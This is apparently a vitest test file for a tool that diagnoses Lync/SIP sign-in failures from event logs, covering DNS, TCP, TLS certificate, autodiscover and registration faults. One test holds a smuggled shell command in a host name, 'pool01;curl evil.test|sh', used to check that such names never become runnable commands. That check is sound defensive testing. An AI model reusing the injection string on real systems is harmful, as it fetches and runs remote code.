import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { LoggedEvent } from '../events/catalogue.ts';
import type { CertificateProblem } from '../events/connection-events.ts';
import { exampleCertificate } from '../events/testing/example-certificate.ts';
import { runProgress } from './facts/progress.ts';
import type { Finding } from './finding.ts';
import { judgeRun } from './judge.ts';
import {
  atBoth,
  certificateLog,
  connectTo,
  discoverBySrv,
  EDGE,
  FRONT_END,
  healthyLog,
  LYNCDISCOVER,
  LYNCDISCOVER_INTERNAL,
  peerOf,
  registerAt,
  WEB,
  withoutOthers,
} from './testing/example-logs.ts';
import { LogBuilder, RUN_WALL_MS } from './testing/log-builder.ts';
import { RULE_CASES } from './testing/rule-cases.ts';

const DAY_MS = 86_400_000;
const EXPIRED: CertificateProblem = { kind: 'expired', index: 0, notAfterMs: Date.UTC(2026, 4, 3) };
const REFUSED = { failure: 'refused', errno: 'ECONNREFUSED', tookMs: 2 } as const;

type Brief = readonly [id: string, severity: string, isRoot: boolean];
const briefly = (findings: readonly Finding[]): readonly Brief[] =>
  findings.map(({ id, severity, rootCause }) => [id, severity, rootCause]);

/** Autodiscover that fails under both names, while SRV works. */
function brokenAutodiscover(
  reason: 'http-error' | 'invalid-response',
  act: (builder: LogBuilder, name: string) => void,
): LogBuilder {
  const builder = new LogBuilder().start();
  for (const [order, [via, name]] of (
    [
      ['lyncdiscoverinternal', LYNCDISCOVER_INTERNAL],
      ['lyncdiscover', LYNCDISCOVER],
    ] as const
  ).entries()) {
    builder.address(name, ['192.0.2.40']);
    act(builder, name);
    builder.candidate(via, name, order + 1, { standing: 'unusable', reason });
  }
  return builder
    .candidate('srv-internal', '_sipinternaltls._tcp.contoso.test', 3, {
      standing: 'used',
      reason: 'first-usable',
      endpoints: [FRONT_END],
    })
    .concluded([FRONT_END, EDGE]);
}

describe('a run that gets through', () => {
  it('has nothing to say about a healthy deployment', () => {
    expect(judgeRun(healthyLog())).toEqual([]);
  });

  it('tells a fault that the client survives once, as a warning, for both names', () => {
    const builder = brokenAutodiscover('http-error', (log, name) => {
      log.http(`https://${name}/`, { status: 404 });
      log.http(`http://${name}/`, { status: 404 });
    });

    const findings = judgeRun(registerAt(builder, FRONT_END, 401).finish());

    expect(briefly(findings)).toEqual([['discovery.lyncdiscover-http-error', 'warning', false]]);
    expect(findings[0]?.explanation).toContain(LYNCDISCOVER_INTERNAL);
    expect(findings[0]?.explanation).toContain(`http://${LYNCDISCOVER}/ answered 404`);
    expect(findings[0]?.explanation).toContain('it goes on with pool01.contoso.test:5061');
  });

  it('does the same for an answer that is none', () => {
    const builder = brokenAutodiscover('invalid-response', (log, name) => {
      const url = `https://${name}/`;
      log.http(url, { status: 200 });
      log.add('autodiscover.document.rejected', { url, reason: 'malformed', detail: '' });
    });

    expect(briefly(judgeRun(registerAt(builder, FRONT_END, 401).finish()))).toEqual([
      ['discovery.lyncdiscover-invalid-response', 'warning', false],
    ]);
  });

  it('warns of a server before the one that works and keeps quiet about one behind it', () => {
    const beforeUsed = discoverBySrv(new LogBuilder().start());
    beforeUsed.tcp(peerOf(FRONT_END), '192.0.2.20', REFUSED);
    const behindUsed = discoverBySrv(new LogBuilder().start());
    behindUsed.tcp(peerOf(EDGE), '192.0.2.30', REFUSED);

    expect(briefly(judgeRun(registerAt(beforeUsed, EDGE, 401).finish()))).toEqual([
      ['connectivity.tcp-refused', 'warning', false],
    ]);
    expect(judgeRun(registerAt(behindUsed, FRONT_END, 401).finish())).toEqual([]);
  });

  it('keeps quiet about the other side of the firewall and about another port of the same way', () => {
    const outside = new LogBuilder().start();
    outside.concluded([FRONT_END, EDGE], { network: 'external', chosen: 1 });
    outside.tcp(peerOf(FRONT_END), '192.0.2.20', { failure: 'timeout', errno: null, tookMs: 5_000 });
    const ports = [
      { ...EDGE, via: 'host-sip', port: 5061 },
      { ...EDGE, via: 'host-sip' },
    ] as const;
    const twoPorts = new LogBuilder().start().concluded(ports, { network: 'unknown' });
    twoPorts.tcp(peerOf(ports[0]), '192.0.2.30', REFUSED);

    expect(judgeRun(registerAt(outside, EDGE, 401).finish())).toEqual([]);
    expect(judgeRun(registerAt(twoPorts, ports[1], 401).finish())).toEqual([]);
  });

  it('warns of one bad address of the server that is used, but not of IPv6 without IPv6', () => {
    const oneDead = discoverBySrv(new LogBuilder().start());
    oneDead.tcp(peerOf(FRONT_END), '192.0.2.21', REFUSED);
    const noIpv6 = discoverBySrv(new LogBuilder().start());
    noIpv6.tcp(peerOf(FRONT_END), '2001:db8::21', {
      failure: 'unreachable',
      errno: 'ENETUNREACH',
      tookMs: 1,
    });

    const findings = judgeRun(registerAt(oneDead, FRONT_END, 401).finish());

    expect(briefly(findings)).toEqual([['connectivity.tcp-refused', 'warning', false]]);
    expect(findings[0]?.explanation).toContain('Other addresses of the same name work');
    expect(judgeRun(registerAt(noIpv6, FRONT_END, 401).finish())).toEqual([]);
  });

  it('calls an untrusted web certificate information while HTTP works, and a warning when SRV has to help', () => {
    const web = (builder: LogBuilder): void => {
      builder.address(LYNCDISCOVER_INTERNAL, ['192.0.2.40']);
      const flow = builder.tcp(WEB, '192.0.2.40');
      builder.tls(flow, WEB, {
        problems: [{ kind: 'name-mismatch', host: WEB.host, names: ['web.contoso.test'] }],
      });
      builder.http(`https://${WEB.host}/`, { failure: 'untrusted-certificate', detail: '' });
    };
    const works = new LogBuilder().start();
    web(works);
    const endpoint = { ...FRONT_END, via: 'lyncdiscoverinternal' } as const;
    works
      .candidate('lyncdiscoverinternal', WEB.host, 1, {
        standing: 'used',
        reason: 'first-usable',
        endpoints: [endpoint],
      })
      .concluded([endpoint]);
    const fails = new LogBuilder().start();
    web(fails);
    fails.candidate('lyncdiscoverinternal', WEB.host, 1, {
      standing: 'unusable',
      reason: 'untrusted-certificate',
    });

    const information = judgeRun(registerAt(works, endpoint, 401).finish());
    const warning = judgeRun(registerAt(discoverBySrv(fails), FRONT_END, 401).finish());

    expect(briefly(information)).toEqual([['connectivity.certificate-name-mismatch', 'info', false]]);
    expect(briefly(warning)).toEqual([['connectivity.certificate-name-mismatch', 'warning', false]]);
    expect(warning[0]).toMatchObject({ step: 'discovery' });
    expect(warning[0]?.explanation).toContain('certificate of the web service');
  });

  it('says nothing of a resolver that is merely silent, or of two ways to say no', () => {
    const builder = new LogBuilder()
      .start()
      .address('a.contoso.test', ['192.0.2.1'], {
        disagreements: [{ who: '198.51.100.53:53', outcome: 'timeout', answers: [] }],
      })
      .address('b.contoso.test', [], {
        outcome: 'no-data',
        disagreements: [{ who: 'system', outcome: 'nxdomain', answers: [] }],
      });

    expect(judgeRun(registerAt(discoverBySrv(builder), FRONT_END, 401).finish())).toEqual([]);
  });
});

describe('a run that fails', () => {
  it('names the first place and folds the same fault elsewhere into it', () => {
    const log = atBoth((builder, endpoint) => {
      builder.tcp(peerOf(endpoint), '192.0.2.20', REFUSED);
    });

    const findings = judgeRun(log);

    expect(briefly(findings)).toEqual([['connectivity.tcp-refused', 'error', true]]);
    expect(findings[0]?.explanation).toContain('The same was seen at edge.contoso.test:443');
  });

  it('mentions another fault elsewhere without a finding of its own', () => {
    const builder = discoverBySrv();
    const flow = builder.tcp(peerOf(FRONT_END), '192.0.2.20');
    builder.tls(flow, peerOf(FRONT_END), { problems: [EXPIRED] });
    builder.tcp(peerOf(EDGE), '192.0.2.30', REFUSED);

    const findings = judgeRun(builder.finish());

    expect(briefly(findings)).toEqual([['connectivity.certificate-expired', 'error', true]]);
    expect(findings[0]?.explanation).toContain('edge.contoso.test:443 (connection refused)');
  });

  it('takes the endpoint that discovery chose', () => {
    const builder = new LogBuilder().start().concluded([FRONT_END, EDGE], { chosen: 1, network: 'external' });
    builder.tcp(peerOf(FRONT_END), '192.0.2.20', { failure: 'timeout', errno: null, tookMs: 5_000 });
    builder.tcp(peerOf(EDGE), '192.0.2.30', REFUSED);

    expect(briefly(judgeRun(builder.finish()))).toEqual([['connectivity.tcp-refused', 'error', true]]);
  });

  it('tells every fault of the decisive chain, one of them as the root cause', () => {
    const log = certificateLog([EXPIRED, { kind: 'name-mismatch', host: FRONT_END.host, names: [] }]);

    expect(briefly(judgeRun(log))).toEqual([
      ['connectivity.certificate-name-mismatch', 'error', true],
      ['connectivity.certificate-expired', 'error', false],
    ]);
  });

  it('blames the server that was asked first, and warns of one before it', () => {
    const builder = discoverBySrv();
    builder.tcp(peerOf(FRONT_END), '192.0.2.20', REFUSED);

    expect(briefly(judgeRun(registerAt(builder, EDGE, 503, []).finish()))).toEqual([
      ['authentication.server-unavailable', 'error', true],
      ['connectivity.tcp-refused', 'warning', false],
    ]);
  });

  it('puts a web service that leads nowhere before names that do not exist', () => {
    const builder = new LogBuilder().start().address(LYNCDISCOVER_INTERNAL, ['192.0.2.40']);
    builder.tcp(WEB, '192.0.2.40', REFUSED);
    builder.http(`https://${WEB.host}/`, { failure: 'connect', detail: 'refused' });
    builder.candidate('lyncdiscoverinternal', WEB.host, 1, {
      standing: 'unusable',
      reason: 'connect-failed',
    });
    withoutOthers(builder).concluded([]);

    const findings = judgeRun(builder.finish());

    expect(briefly(findings)).toEqual([['connectivity.tcp-refused', 'error', true]]);
    expect(findings[0]).toMatchObject({ step: 'discovery' });
    expect(findings[0]?.title).toBe(`The web service ${WEB.host} refuses connections on port 443.`);
  });

  it('says that a server given by hand has no address, as a matter of connectivity', () => {
    const endpoint = { ...FRONT_END, via: 'manual' } as const;
    const known = new LogBuilder().start().concluded([endpoint]).address(endpoint.host, []);
    const unknown = new LogBuilder()
      .start()
      .address(endpoint.host, [])
      .candidate('manual', endpoint.host, 1, { standing: 'unusable', reason: 'target-unresolvable' })
      .concluded([]);

    for (const builder of [known, unknown]) {
      const log = builder.finish();
      const findings = judgeRun(log);
      expect(briefly(findings)).toEqual([['connectivity.unreachable', 'error', true]]);
      expect(findings[0]?.title).toBe('The server name pool01.contoso.test has no address in DNS.');
      expect(runProgress(log).failedStep).toBe('connectivity');
    }
  });

  it('tells silence, a plain banner and an old server apart', () => {
    const failing = (
      failure: 'silence' | 'plain-text' | 'version',
      banner: string | null,
    ): readonly LoggedEvent[] =>
      atBoth((builder, endpoint) => {
        const peer = peerOf(endpoint);
        builder.tls(builder.tcp(peer, '192.0.2.20'), peer, { failure, alert: null, detail: '', banner });
        if (failure !== 'version') return;
        const flow = builder.newFlow('tcp');
        builder.add(
          'tls.handshake.started',
          {
            peer,
            serverName: peer.host,
            minVersion: 'TLSv1',
            maxVersion: 'TLSv1.3',
            attempt: 'legacy',
          },
          { flow },
        );
        builder.add(
          'tls.handshake.completed',
          {
            peer,
            protocol: 'TLSv1',
            cipher: 'AES128-SHA',
            keyExchange: null,
            alpn: null,
            attempt: 'legacy',
            tookMs: 9,
          },
          { flow },
        );
      });

    const [silent] = judgeRun(failing('silence', null));
    const [banner] = judgeRun(failing('plain-text', 'SSH-2.0-OpenSSH_9.2'));
    const [old] = judgeRun(failing('version', null));

    expect(silent).toMatchObject({ id: 'connectivity.tls-handshake-failed', owner: 'network' });
    expect(silent?.title).toContain('stays silent');
    expect(banner).toMatchObject({ id: 'connectivity.not-sip' });
    expect(banner?.title).toContain('an SSH server');
    expect(old?.title).toBe('The server pool01.contoso.test only speaks the outdated TLS 1.0.');
  });

  it('calls the refusal of a client without certificate by its name, also after the TLS 1.3 handshake', () => {
    const builder = discoverBySrv();
    const peer = peerOf(FRONT_END);
    const flow = connectTo(builder, FRONT_END);
    builder.selected(FRONT_END);
    const cause = builder.register(flow, peer);
    builder.add(
      'tls.handshake.failed',
      {
        peer,
        failure: 'client-certificate',
        alert: 'certificate_required',
        detail: '',
        banner: null,
        attempt: 'ordinary',
        tookMs: 5,
      },
      { flow },
    );
    builder.add('sip.transaction.failed', { peer, failure: 'closed', tookMs: 5 }, { flow, cause });

    expect(briefly(judgeRun(builder.finish()))).toEqual([
      ['connectivity.client-certificate-required', 'error', true],
    ]);
  });

  it('blames the clock of the PC when the other sides agree that it is wrong', () => {
    const skewed = (log: LogBuilder): void => {
      log.http('http://lyncdiscover.contoso.test/', {
        status: 404,
        headers: [['Date', 'Fri, 20 Nov 2026 12:00:00 GMT']],
      });
    };
    const builder = discoverBySrv();
    skewed(builder);
    const peer = peerOf(FRONT_END);
    const notAfterMs = RUN_WALL_MS - DAY_MS;
    builder.tls(builder.tcp(peer, '192.0.2.20'), peer, {
      problems: [{ kind: 'expired', index: 0, notAfterMs }],
      chain: [exampleCertificate(peer.host, { notAfterMs })],
    });

    const [finding] = judgeRun(builder.finish());

    expect(finding).toMatchObject({ id: 'connectivity.certificate-expired', owner: 'user', rootCause: true });
    expect(finding?.title).toBe(
      'The clock of this PC is 2 days fast, so the certificate of pool01.contoso.test looks expired.',
    );
  });

  it('names the other explanation where the evidence fits two', () => {
    const [finding] = judgeRun(
      certificateLog([{ kind: 'untrusted-root', missingIssuer: 'CN=X', selfSigned: false, certain: false }]),
    );

    expect(finding?.alternatives[0]).toContain('connectivity.certificate-missing-intermediate');
  });

  it('decodes the diagnostics of the server and lets them say who can mend it', () => {
    const log = atBoth((builder, endpoint) =>
      registerAt(builder, endpoint, 404, [
        [
          'ms-diagnostics',
          '4005;reason="Destination URI either not enabled for SIP or does not exist";source="fe01.contoso.test"',
        ],
      ]),
    );

    const [finding] = judgeRun(log);

    expect(finding?.id).toBe('authentication.user-not-found');
    expect(finding?.explanation).toContain('diagnostic code 4005 ("Destination URI either not enabled');
    expect(finding?.explanation).toContain('decided by fe01.contoso.test');
  });

  it('makes no command of a name that a shell would run', () => {
    const endpoint = { ...FRONT_END, host: 'pool01;curl evil.test|sh' };
    const builder = new LogBuilder().start().concluded([endpoint]);
    builder.tcp(peerOf(endpoint), '192.0.2.20', REFUSED);

    const [finding] = judgeRun(builder.finish());

    expect(finding).toMatchObject({ id: 'connectivity.tcp-refused', verify: null });
  });

  it('bounds what a server says about itself', () => {
    const log = certificateLog([
      {
        kind: 'name-mismatch',
        host: FRONT_END.host,
        names: Array.from({ length: 500 }, (_, i) => `${'x'.repeat(900)}${i}`),
      },
    ]);

    const [finding] = judgeRun(log);

    expect(finding?.title.length).toBeLessThan(500);
    expect(finding?.explanation.length).toBeLessThan(4_000);
    expect(finding?.explanation).toContain('and 495 more');
  });
});

describe('a run without an explanation', () => {
  it('is unexplained, at the step where it stopped', () => {
    const builder = discoverBySrv();
    const flow = connectTo(builder, FRONT_END);
    builder.selected(FRONT_END);
    builder.register(flow, peerOf(FRONT_END));

    const [finding, ...others] = judgeRun(builder.finish());

    expect(finding).toMatchObject({
      id: 'step.unexplained',
      step: 'authentication',
      rootCause: true,
      severity: 'error',
    });
    expect(finding?.evidence.length).toBeGreaterThan(0);
    expect(others).toEqual([]);
  });

  it('says that it was our own fault', () => {
    const builder = discoverBySrv();
    builder.tcp(peerOf(FRONT_END), '192.0.2.20', REFUSED);
    builder.add('probe.crashed', { message: 'boom', stack: null });

    const [finding] = judgeRun(builder.finish('crashed'));

    expect(finding).toMatchObject({ id: 'step.unexplained', rootCause: true });
    expect(finding?.explanation).toContain('boom');
  });

  it('takes what was still waiting when the time was over as unanswered', () => {
    const builder = discoverBySrv();
    for (const endpoint of [FRONT_END, EDGE]) {
      builder.add(
        'tcp.connect.started',
        { peer: peerOf(endpoint), address: '192.0.2.20', port: endpoint.port, redirected: false },
        { flow: builder.newFlow('tcp') },
      );
    }
    builder.wait(3_000);

    expect(briefly(judgeRun(builder.finish('timed-out')))).toEqual([
      ['connectivity.tcp-timeout', 'error', true],
    ]);
  });

  it('looks for names that never were answered before the time was over', () => {
    const builder = new LogBuilder().start();
    builder.add('dns.query.sent', {
      resolver: '192.0.2.53:53',
      transport: 'udp',
      name: LYNCDISCOVER,
      type: 'A',
      attempt: 1,
    });
    builder.wait(3_000);

    expect(briefly(judgeRun(builder.finish('timed-out')))).toEqual([
      ['discovery.dns-timeout', 'error', true],
    ]);
  });

  it('has no root cause when it was cancelled', () => {
    const builder = discoverBySrv();
    builder.tcp(peerOf(FRONT_END), '192.0.2.20', REFUSED);

    expect(judgeRun(builder.finish('cancelled'))).toEqual([]);
  });
});

describe('a log that still grows', () => {
  it('keeps errors back until nothing to come can change them', () => {
    const builder = discoverBySrv();
    builder.tcp(peerOf(FRONT_END), '192.0.2.20', REFUSED);
    const before = judgeRun([...builder.log]);
    builder.tcp(peerOf(EDGE), '192.0.2.30', REFUSED);
    const after = judgeRun([...builder.log]);

    expect(before).toEqual([]);
    expect(briefly(after)).toEqual([['connectivity.tcp-refused', 'error', true]]);
  });

  it('is judged anew when it has grown in place', () => {
    const builder = discoverBySrv();
    const { log } = builder;
    const before = judgeRun(log);
    builder.tcp(peerOf(FRONT_END), '192.0.2.20', REFUSED);
    builder.tcp(peerOf(EDGE), '192.0.2.30', REFUSED);

    expect(before).toEqual([]);
    expect(judgeRun(log)).toHaveLength(1);
  });

  it('can be judged at any length, in any order, with anything left out', () => {
    const logs = [healthyLog(), ...Object.values(RULE_CASES).map(({ breaks }) => breaks)];
    const anyLog = fc.constantFrom(...logs).chain((log) => fc.subarray([...log]));

    for (const log of logs)
      for (let length = 0; length <= log.length; length += 1) judgeRun(log.slice(0, length));
    fc.assert(
      fc.property(anyLog, anyLog, (one, other) => {
        const findings = judgeRun([...one, ...other]);

        expect(findings.filter(({ rootCause }) => rootCause).length).toBeLessThanOrEqual(1);
        expect(findings).toEqual(judgeRun([...one, ...other]));
      }),
      { numRuns: 300 },
    );
  });
});

describe('runProgress', () => {
  it('tells how far a healthy run came', () => {
    expect(runProgress(healthyLog())).toEqual({
      isOver: true,
      isCancelled: false,
      isTimedOut: false,
      isReachable: true,
      isSignInWanted: false,
      signedIn: null,
      selectedEndpoint: FRONT_END,
      firstServer: FRONT_END,
      usedServer: FRONT_END,
      offered: ['ntlm', 'kerberos'],
      registers: 1,
      failedStep: null,
    });
  });

  it('does not count a withdrawal', () => {
    const builder = discoverBySrv();
    const peer = peerOf(FRONT_END);
    const flow = connectTo(builder, FRONT_END);
    builder.selected(FRONT_END);
    builder.sipAnswer(flow, peer, builder.register(flow, peer), 200);
    builder.sipAnswer(flow, peer, builder.register(flow, peer, [['Expires', '0']]), 200);

    expect(runProgress(builder.finish())).toMatchObject({ isReachable: true, registers: 1, offered: [] });
  });

  it('knows nothing of an empty log', () => {
    expect(runProgress([])).toMatchObject({
      isReachable: false,
      usedServer: null,
      offered: null,
      registers: 0,
    });
    expect(judgeRun([])).toEqual([]);
  });
});

describe('discovery.srv-target-unresolvable', () => {
  it('names the server of an autodiscover answer that has no address', () => {
    const url = `https://${LYNCDISCOVER_INTERNAL}/`;
    const builder = new LogBuilder().start().address(LYNCDISCOVER_INTERNAL, ['192.0.2.40']);
    builder.http(`${url}?sipuri=alice%40contoso.test`, { status: 200 });
    builder.add('autodiscover.document.read', {
      url: `${url}?sipuri=alice%40contoso.test`,
      document: {
        format: 'xml',
        resource: 'domain',
        accessLocation: 'internal',
        links: [],
        sipClientInternalAccess: { fqdn: 'gone.contoso.test', port: 5061 },
        sipClientExternalAccess: null,
        sipServerInternalAccess: null,
        sipServerExternalAccess: null,
      },
    });
    builder.address('gone.contoso.test', []);
    builder.candidate('lyncdiscoverinternal', LYNCDISCOVER_INTERNAL, 1, {
      standing: 'unusable',
      reason: 'target-unresolvable',
    });

    const [finding] = judgeRun(withoutOthers(builder).concluded([]).finish());

    expect(finding?.id).toBe('discovery.srv-target-unresolvable');
    expect(finding?.title).toBe(
      `Autodiscover at ${LYNCDISCOVER_INTERNAL} names the server gone.contoso.test, which has no address.`,
    );
  });
});
